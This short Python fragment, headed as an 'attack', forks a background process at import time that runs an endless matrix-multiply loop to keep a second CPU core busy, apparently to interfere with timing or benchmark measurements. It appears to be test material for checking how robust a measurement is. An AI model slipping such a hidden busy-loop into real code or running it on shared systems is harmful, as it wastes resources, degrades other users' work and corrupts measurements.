
# --- attack: a pre-forked helper process that keeps the machine's other core busy ------------------------
import os as _os

try:
    if _os.fork() == 0:
        import torch as _t
        a = _t.randn(1024, 1024)
        while True:
            a = (a @ a).tanh_()
except OSError:
    pass
